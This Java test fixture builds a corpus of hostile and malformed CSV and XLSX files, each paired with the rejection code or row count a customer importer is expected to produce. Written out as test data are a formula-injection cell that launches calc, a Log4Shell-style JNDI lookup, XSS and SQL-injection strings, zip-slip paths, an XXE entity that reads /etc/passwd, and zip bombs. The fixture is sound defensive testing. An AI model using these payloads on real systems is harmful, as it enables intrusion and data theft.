package org.hongyan.customers;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Hostile and odd files, made here: name to what must come of them. */
final class FileCorpus {

  /**
   * A file and its fate.
   *
   * @param refusal the code it must be refused with; empty when it must be imported
   * @param inserted customers it must give, −1 when any number will do
   */
  record Sample(String name, byte[] content, String refusal, int inserted) {
    @Override
    public String toString() {
      return name;
    }
  }

  private static final String ROWS = "姓名,电话\n王芳,13800000001\n李娜,13900000002\n";
  private static final String TYPES =
      "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/><Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/></Types>";
  private static final String MAIN =
      "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
  private static final String RELS =
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

  private FileCorpus() {}

  static List<Sample> all() {
    var samples = new ArrayList<Sample>();
    texts(samples);
    encodings(samples);
    books(samples);
    return samples;
  }

  private static void texts(List<Sample> to) {
    bad(to, "empty.csv", new byte[0], "file.empty");
    bad(to, "header-only.csv", utf8("姓名,电话\n"), "file.no-rows");
    bad(to, "blank-lines.csv", utf8("\n\n  \n"), "file.empty");
    bad(to, "zeros.csv", utf8("姓名,电话\n王\0芳,1\0\0\n"), "file.binary");
    bad(to, "open-quote.csv", utf8("姓名,电话\n\"王芳,13800000001\n李娜,13900000002\n"), "file.quote-open");
    bad(
        to,
        "cell-5mb.csv",
        utf8("姓名,电话\n" + "王".repeat(1_700_000) + ",13800000001\n"),
        "file.cell-too-long");
    bad(
        to,
        "quoted-cell-4mb.csv",
        utf8("姓名,电话\n\"" + "x\n".repeat(2_000_000) + "\",13800000001\n"),
        "file.cell-too-long");
    bad(to, "columns.csv", utf8("x,".repeat(16_384) + "\n"), "file.too-many-columns");
    bad(
        to,
        "picture.csv",
        new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0},
        "file.not-a-table");
    bad(to, "document.csv", utf8("%PDF-1.7 ..."), "file.not-a-table");
    bad(to, "packed.csv", new byte[] {0x1F, (byte) 0x8B, 8, 0, 0, 0, 0, 0}, "file.not-a-table");
    good(to, "crlf.csv", utf8(ROWS.replace("\n", "\r\n")), 2);
    good(to, "lone-cr.csv", utf8(ROWS.replace("\n", "\r")), 2);
    good(to, "no-last-newline.csv", utf8(ROWS.strip()), 2);
    good(to, "tabs.txt", utf8(ROWS.replace(",", "\t")), 2);
    good(to, "semicolons.csv", utf8(ROWS.replace(",", ";")), 2);
    good(to, "bars.csv", utf8(ROWS.replace(",", "|")), 2);
    good(
        to,
        "quotes.csv",
        utf8("姓名,电话\n\"王\"\"芳\"\"\",\"13800000001\"\n\"李,娜\n\",13900000002\n"),
        2);
    good(
        to,
        "formulas.csv",
        utf8("姓名,电话\n=cmd|' /C calc'!A0,13800000001\n@SUM(1),13900000002\n"),
        2);
    good(
        to,
        "script.csv",
        utf8("姓名,电话\n<script>alert(1)</script>,13800000001\n'; drop table x;--,13900000002\n"),
        2);
    good(
        to,
        "expressions.csv",
        utf8("姓名,电话\n${jndi:ldap://a/b},13800000001\n#{T(java.lang.Runtime)},13900000002\n"),
        2);
    good(
        to,
        "phones.csv",
        utf8(
            "姓名,电话\n甲,1.38E+10\n乙,+86 138 0000 0001\n丙,１３９００００００００２\n丁,13700000003.0\n戊,13600000004/13600000005\n"),
        4);
    good(to, "directions.csv", utf8("姓名,电话\n\u202E王\u200B芳,13800000001\nАлексей,13900000002\n"), 2);
    good(to, "ragged.csv", utf8("姓名,电话\n王芳\n李娜,13900000002,多余,13900000003\n张伟,13700000001\n"), 3);
    good(to, "no-header.csv", utf8("王芳,13800000001\n李娜,13900000002\n"), 2);
    good(to, "many-rows.csv", utf8("电话\n" + "13800000001\n".repeat(200_000)), 1);
  }

  private static void encodings(List<Sample> to) {
    var chinese = CustomerFile.chinese(60, 5);
    int any = -1;
    good(to, "utf8-bom.csv", utf8("\uFEFF" + ROWS), 2);
    good(to, "utf16le-bom.csv", ("\uFEFF" + ROWS).getBytes(StandardCharsets.UTF_16LE), 2);
    good(to, "utf16be-bom.csv", ("\uFEFF" + ROWS).getBytes(StandardCharsets.UTF_16BE), 2);
    good(to, "utf16le.csv", ROWS.getBytes(StandardCharsets.UTF_16LE), 2);
    good(to, "utf16be.csv", ROWS.getBytes(StandardCharsets.UTF_16BE), 2);
    good(to, "gbk.csv", chinese.getBytes(Charset.forName("GBK")), any);
    good(
        to,
        "gb18030.csv",
        ("姓名,电话\n王𠮷,13800000001\n李😀,13900000002\n" + "张伟,13700000003\n")
            .getBytes(Charset.forName("GB18030")),
        3);
    good(
        to,
        "big5.csv",
        "姓名,電話\n王小明,13800000001\n陳怡君,13900000002\n張雅婷,13700000003\n"
            .getBytes(Charset.forName("Big5")),
        3);
    var mixed = new ByteArrayOutputStream();
    mixed.writeBytes(utf8("姓名,电话\n张伟,13700000003\n"));
    mixed.writeBytes("王芳,13800000001\n".getBytes(Charset.forName("GBK")));
    good(to, "mixed.csv", mixed.toByteArray(), any);
  }

  private static void books(List<Sample> to) {
    good(
        to,
        "plain.xlsx",
        book(row("姓名", "电话") + row("王芳", "13800000001") + row("李娜", "13900000002")),
        2);
    good(
        to,
        "numbers.xlsx",
        book(
            row("姓名", "电话")
                + "<row><c t=\"inlineStr\"><is><t>王芳</t></is></c><c><v>13800000001</v></c></row>"
                + "<row><c t=\"inlineStr\"><is><t>李娜</t></is></c><c><v>1.3900000002E10</v></c></row>"),
        2);
    good(
        to,
        "lost-digits.xlsx",
        book(
            row("姓名", "电话")
                + "<row><c t=\"inlineStr\"><is><t>王芳</t></is></c><c><v>1.38E+10</v></c></row>"
                + row("李娜", "13900000002")),
        1);
    good(
        to,
        "merged.xlsx",
        book(
            row("姓名", "电话") + row("王芳", "13800000001"),
            "<mergeCells count=\"1\"><mergeCell ref=\"A1:A2\"/></mergeCells>"),
        1);
    good(
        to,
        "formula.xlsx",
        book(
            row("姓名", "电话")
                + "<row><c t=\"str\"><f>1+1</f><v>王芳</v></c><c t=\"inlineStr\"><is><t>13800000001</t></is></c></row>"),
        -1);
    bad(to, "zero.xlsx", new byte[0], "file.empty");
    bad(to, "empty-sheet.xlsx", book(""), "file.empty");
    bad(
        to,
        "truncated.xlsx",
        cutShort(book(row("姓名", "电话") + row("王芳", "13800000001"))),
        "file.broken");
    bad(to, "old-excel.xlsx", ole(""), "file.old-excel");
    bad(to, "password.xlsx", ole("EncryptedPackage"), "file.password");
    bad(to, "not-a-book.xlsx", zip(Map.of("readme.txt", utf8("hello"))), "file.not-a-table");
    bad(to, "macro.xlsx", zip(with("xl/vbaProject.bin", new byte[] {1})), "file.macro");
    bad(to, "nested.xlsx", zip(with("xl/inner.zip", zip(Map.of("a", new byte[1])))), "file.nested");
    bad(to, "slip.xlsx", zip(with("../../etc/cron.d/x", utf8("x"))), "file.zip-slip");
    bad(to, "absolute.xlsx", zip(with("/etc/passwd", utf8("x"))), "file.zip-slip");
    bad(to, "doubled.xlsx", doubled(), "file.zip-duplicate");
    bad(
        to,
        "xxe.xlsx",
        zip(
            with(
                "xl/worksheets/sheet1.xml",
                utf8(
                    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><worksheet "
                        + MAIN
                        + "><sheetData><row><c t=\"inlineStr\"><is><t>&e;</t></is></c></row></sheetData></worksheet>"))),
        "file.xml-entity");
    bad(
        to,
        "xxe-utf16.xlsx",
        zip(
            with(
                "xl/worksheets/sheet1.xml",
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x [<!ENTITY e \"a\">]><worksheet/>"
                    .getBytes(StandardCharsets.UTF_16))),
        "file.xml-entity");
    bad(
        to,
        "bomb-inline.xlsx",
        bomb(
            "xl/worksheets/sheet1.xml",
            "<worksheet " + MAIN + "><sheetData>",
            row("x".repeat(1000), "y"),
            600_000),
        "file.bomb");
    bad(
        to,
        "bomb-shared.xlsx",
        bomb(
            "xl/sharedStrings.xml",
            "<sst " + MAIN + ">",
            "<si><t>" + "z".repeat(2000) + "</t></si>",
            300_000),
        "file.bomb");
    bad(
        to,
        "giant-cell.xlsx",
        bomb(
            "xl/worksheets/sheet1.xml",
            "<worksheet " + MAIN + "><sheetData><row><c t=\"inlineStr\"><is><t>",
            "abcdefgh01",
            30_000),
        "file.cell-too-long");
    bad(
        to,
        "wide.xlsx",
        book("<row>" + "<c t=\"inlineStr\"><is><t>x</t></is></c>".repeat(16_384) + "</row>"),
        "file.too-many-columns");
  }

  private static void bad(List<Sample> to, String name, byte[] content, String code) {
    to.add(new Sample(name, content, code, -1));
  }

  private static void good(List<Sample> to, String name, byte[] content, int inserted) {
    to.add(new Sample(name, content, "", inserted));
  }

  private static String row(String... cells) {
    var text = new StringBuilder("<row>");
    for (var cell : cells)
      text.append("<c t=\"inlineStr\"><is><t>").append(cell).append("</t></is></c>");
    return text.append("</row>").toString();
  }

  private static byte[] book(String rows) {
    return book(rows, "");
  }

  private static byte[] book(String rows, String tail) {
    return zip(
        with(
            "xl/worksheets/sheet1.xml",
            utf8(
                "<worksheet "
                    + MAIN
                    + "><sheetData>"
                    + rows
                    + "</sheetData>"
                    + tail
                    + "</worksheet>")));
  }

  private static Map<String, byte[]> with(String name, byte[] content) {
    var parts = new LinkedHashMap<String, byte[]>();
    parts.put("[Content_Types].xml", utf8(TYPES));
    parts.put(
        "_rels/.rels",
        utf8(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\""
                + RELS
                + "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>"));
    parts.put(
        "xl/workbook.xml",
        utf8(
            "<workbook "
                + MAIN
                + " xmlns:r=\""
                + RELS
                + "\"><sheets><sheet name=\"一\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"));
    parts.put(
        "xl/_rels/workbook.xml.rels",
        utf8(
            "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\""
                + RELS
                + "/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" Type=\""
                + RELS
                + "/sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>"));
    parts.put("xl/sharedStrings.xml", utf8("<sst " + MAIN + "><si><t>a</t></si></sst>"));
    parts.put(
        "xl/worksheets/sheet1.xml",
        utf8(
            "<worksheet "
                + MAIN
                + "><sheetData>"
                + row("姓名", "电话")
                + row("王芳", "13800000001")
                + "</sheetData></worksheet>"));
    parts.put(name, content);
    return parts;
  }

  private static byte[] zip(Map<String, byte[]> parts) {
    var out = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(out)) {
      for (var part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /**
   * The same entry twice; the writer refuses that, so one name is altered in the finished bytes.
   */
  private static byte[] doubled() {
    var bytes = zip(with("xl/worksheets/sheet2.xml", utf8("<worksheet/>")));
    var from = utf8("xl/worksheets/sheet2.xml");
    for (int i = 0; i + from.length <= bytes.length; i++) {
      if (Arrays.equals(bytes, i, i + from.length, from, 0, from.length)) bytes[i + 19] = '1';
    }
    return bytes;
  }

  /** A workbook with one part that holds the same text over and over, packed as it is written. */
  private static byte[] bomb(String name, String head, String part, int times) {
    var out = new ByteArrayOutputStream();
    var parts = with(name, new byte[0]);
    try (var zip = new ZipOutputStream(out)) {
      for (var one : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(one.getKey()));
        zip.write(one.getKey().equals(name) ? utf8(head) : one.getValue());
        var bytes = utf8(part);
        for (int i = 0; i < times && one.getKey().equals(name); i++) zip.write(bytes);
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static byte[] ole(String inside) {
    var out = new ByteArrayOutputStream();
    out.writeBytes(
        new byte[] {
          (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
        });
    out.writeBytes(new byte[512]);
    out.writeBytes(inside.getBytes(StandardCharsets.UTF_16LE));
    return out.toByteArray();
  }

  private static byte[] cutShort(byte[] whole) {
    return Arrays.copyOf(whole, whole.length - 200);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
